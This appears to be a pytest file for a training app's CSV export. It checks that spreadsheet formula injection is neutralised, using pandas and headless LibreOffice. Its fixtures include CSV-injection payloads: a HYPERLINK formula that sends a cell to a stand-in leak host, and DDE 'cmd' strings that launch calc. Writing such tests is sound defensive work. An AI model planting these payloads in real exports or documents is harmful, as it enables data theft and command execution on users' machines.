"""CSV exports are safe to open in a spreadsheet (records.csv_safety): text that a spreadsheet would run as a
formula is prefixed with a single quote, text cells are quoted, numbers stay numbers, and the file starts with a
UTF-8 byte-order mark. Checked cell by cell, through Python's csv module and pandas, and, when LibreOffice is
installed, by letting LibreOffice Calc open the cohort export and finding no formula in it."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest
from sqlalchemy import update

from records import Store, User
from records.csv_safety import BOM, safe_cell, write_csv
from records.tables import users
from scenarios import LoadedScenario, Rubric
from tests.helpers import PASSWORD, make_user, play

HYPERLINK = '=HYPERLINK("http://127.0.0.2:9/?leak="&A2, "Open")'
DANGEROUS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("=1+1", "'=1+1"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
]


@pytest.mark.parametrize(("typed", "written"), DANGEROUS)
def test_text_a_spreadsheet_would_run_gets_a_single_quote_in_front(typed, written):
    assert safe_cell(typed) == written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Ana", "Ana"),
        ("Nguyễn Thị Lan", "Nguyễn Thị Lan"),
        ("Ana = Annie", "Ana = Annie"),  # a formula character later in the text is harmless
        ("'=1+1", "'=1+1"),  # already starts with a quote: nothing to add
        ("", ""),
        (None, ""),
        (-1, -1),  # points are numbers PeerSim computed: data, not text anyone typed
        (0, 0),
        (17, 17),
        (-2.5, -2.5),
        (True, "true"),
        (datetime(2027, 3, 1, 10, 0, tzinfo=UTC), "2027-03-01T10:00:00+00:00"),
    ],
)
def test_numbers_stay_numbers_and_plain_text_is_unchanged(value, written):
    assert safe_cell(value) == written


def test_a_file_has_a_byte_order_mark_quoted_text_and_bare_numbers():
    text = write_csv(["name", "points", "note"], [[HYPERLINK, -1, 'say "hi", then =go'], ["Nguyễn", 2, None]])
    assert text == (
        "\ufeff"
        '"name","points","note"\r\n'
        '"\'=HYPERLINK(""http://127.0.0.2:9/?leak=""&A2, ""Open"")",-1,"say ""hi"", then =go"\r\n'
        '"Nguyễn",2,""\r\n'
    )
    assert text.startswith(BOM)


# ------------------------------------------------------------------------------------------ real exports
NAMES = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "Nguyễn Thị Lan",
    'Ana, "Annie"',
]


@pytest.fixture
def hostile_class(store: Store, mini: LoadedScenario, rubric: Rubric) -> tuple[User, int, dict[str, User]]:
    """A cohort whose trainees are named with formulas (and one Vietnamese name), each having played 'plan'
    (-1 point). Two names start with a tab and a carriage return, which sign-up would trim: they are set in the
    database directly, as an older version or another tool might have left them."""
    owner = make_user(store, "Ida Instructor", "instructor")
    cohort = store.cohorts.create(owner, "Spring")
    trainees: dict[str, User] = {}
    for number, name in enumerate([*NAMES, "tab", "return"]):
        trainee = store.accounts.register(name, f"t{number}@example.org", PASSWORD)
        store.cohorts.join(trainee, cohort.join_code)
        play(store, trainee, mini, rubric, [("open", "plan")])
        trainees[name] = trainee
    with store.engine.begin() as connection:
        for placeholder, real in (("tab", "\t=1+1"), ("return", "\r=1+1")):
            connection.execute(update(users).where(users.c.id == trainees[placeholder].id).values(name=real))
            trainees[real] = trainees.pop(placeholder)
    return owner, cohort.id, trainees


EXPECTED_NAMES = {
    HYPERLINK: "'" + HYPERLINK,
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "Nguyễn Thị Lan": "Nguyễn Thị Lan",
    'Ana, "Annie"': 'Ana, "Annie"',
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


def test_the_cohort_export_neutralises_every_name_and_keeps_points_numeric(store, hostile_class):
    owner, cohort_id, trainees = hostile_class
    text = store.analytics.export_csv(owner, cohort_id)
    assert text.startswith(BOM)

    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    header = rows[0]
    assert header[:2] == ["trainee_id", "trainee_name"]
    written = {int(r[0]): r[1] for r in rows[1:]}
    assert written == {trainees[name].id: EXPECTED_NAMES[name] for name in trainees}
    points = header.index("points")
    assert {r[points] for r in rows[1:]} == {"-1"}

    # The same bytes as the download button sends, read the way the README tells analysts to read them.
    frame = pd.read_csv(io.BytesIO(text.encode("utf-8")), encoding="utf-8-sig")
    assert list(frame.columns[:2]) == ["trainee_id", "trainee_name"]
    assert sorted(frame["trainee_name"]) == sorted(EXPECTED_NAMES.values())
    assert frame["points"].dtype.kind == "i" and set(frame["points"]) == {-1}
    assert frame["time_taken_ms"].dtype.kind == "i"
    assert frame["trainee_id"].dtype.kind == "i"


def test_a_trainees_own_export_has_the_mark_and_numeric_points(store, mini, rubric):
    ana = make_user(store, "Ana")
    play(store, ana, mini, rubric, [("open", "plan")])
    text = store.export(ana, ana.id).decisions_csv()
    assert text.startswith(BOM + '"attempt_id","scenario_id","scenario_version","mode","status",')
    frame = pd.read_csv(io.BytesIO(text.encode("utf-8")), encoding="utf-8-sig")
    assert list(frame["points"]) == [-1]
    assert list(frame["choice_id"]) == ["plan"]
    assert list(frame["criteria"]) == ["pf.ahead-of-readiness"]


# ------------------------------------------------------------------------------------------- LibreOffice
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
if SOFFICE is None and os.environ.get("PEERSIM_REQUIRE_LIBREOFFICE") == "1":  # CI: a real spreadsheet must check
    raise RuntimeError("PEERSIM_REQUIRE_LIBREOFFICE=1 but LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def _text_of(element: ElementTree.Element) -> str:
    """A paragraph's text with ODF's tab, line-break and repeated-space elements turned back into characters."""
    out = [element.text or ""]
    for child in element:
        tag = child.tag.removeprefix(f"{{{TEXT}}}")
        out.append({"tab": "\t", "line-break": "\n", "s": " " * int(child.get(f"{{{TEXT}}}c", "1"))}.get(tag, ""))
        out.append(_text_of(child) if tag not in ("tab", "line-break", "s") else "")
        out.append(child.tail or "")
    return "".join(out)


UTF8_IMPORT = "CSV:44,34,76,1"  # comma, double quote, Unicode (UTF-8), from line 1; Calc's other defaults


def calc_cells(csv_path: Path, tmp_path: Path, infilter: str | None = None) -> list[list[dict[str, str]]]:
    """Open a CSV in LibreOffice Calc (headless; its default import, or ``infilter``'s options) and return each
    cell of the first sheet: its formula (if Calc made one), its value type, value and text."""
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            *([f"--infilter={infilter}"] if infilter else []),
            "--convert-to",
            "ods",
            "--outdir",
            str(tmp_path),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    with zipfile.ZipFile(csv_path.with_suffix(".ods")) as ods:
        root = ElementTree.fromstring(ods.read("content.xml"))
    sheet = root.find(f".//{{{TABLE}}}table")
    assert sheet is not None
    out = []
    for row in sheet.iter(f"{{{TABLE}}}table-row"):
        cells = []
        for cell in row.iter(f"{{{TABLE}}}table-cell"):
            cells.append(
                {
                    "formula": cell.get(f"{{{TABLE}}}formula", ""),
                    "type": cell.get(f"{{{OFFICE}}}value-type", ""),
                    "value": cell.get(f"{{{OFFICE}}}value", ""),
                    "text": "\n".join(_text_of(p) for p in cell.iter(f"{{{TEXT}}}p")),
                }
            )
        if any(c["text"] for c in cells):
            out.append(cells)
    return out


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
@pytest.mark.parametrize("infilter", [None, UTF8_IMPORT], ids=["default-import", "utf8-import"])
def test_libreoffice_runs_no_formula_from_the_cohort_export(store, hostile_class, tmp_path, infilter):
    owner, cohort_id, trainees = hostile_class
    path = tmp_path / "cohort.csv"
    path.write_bytes(store.analytics.export_csv(owner, cohort_id).encode("utf-8"))  # what the browser saves
    rows = calc_cells(path, tmp_path, infilter)
    assert [c for row in rows for c in row if c["formula"]] == []
    header = [c["text"] for c in rows[0]]
    name_at, points_at = header.index("trainee_name"), header.index("points")
    assert {row[name_at]["type"] for row in rows[1:]} == {"string"}
    assert {(row[points_at]["type"], row[points_at]["value"]) for row in rows[1:]} == {("float", "-1")}
    if infilter == UTF8_IMPORT:
        # Calc shows each name behind its quote, as text. (Headless Calc's default import ignores the byte-order
        # mark and reads Windows-1252, so the Vietnamese name is checked with UTF-8 chosen, as in its import
        # dialog; the mark is for Excel, which reads it.)
        names = sorted(row[name_at]["text"] for row in rows[1:])
        assert names == sorted(EXPECTED_NAMES[n].replace("\r", "\n") for n in trainees)


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
@pytest.mark.parametrize("infilter", [None, UTF8_IMPORT], ids=["default-import", "utf8-import"])
def test_libreoffice_would_have_run_the_formulas_without_the_quote(tmp_path, infilter):
    """The check above can fail: the same names written plainly (as before), quoted or not, become formulas."""
    path = tmp_path / "plain.csv"
    out = io.StringIO()
    csv.writer(out).writerows([["trainee_name", "points"], [HYPERLINK, -1], ["=1+1", -1]])
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow(["=2*3", -1])  # quoting alone does not stop Calc
    path.write_text(out.getvalue(), encoding="utf-8")
    formulas = [c["formula"] for row in calc_cells(path, tmp_path, infilter) for c in row if c["formula"]]
    assert formulas == ['of:=HYPERLINK("http://127.0.0.2:9/?leak="&[.A2]; "Open")', "of:=1+1", "of:=2*3"]
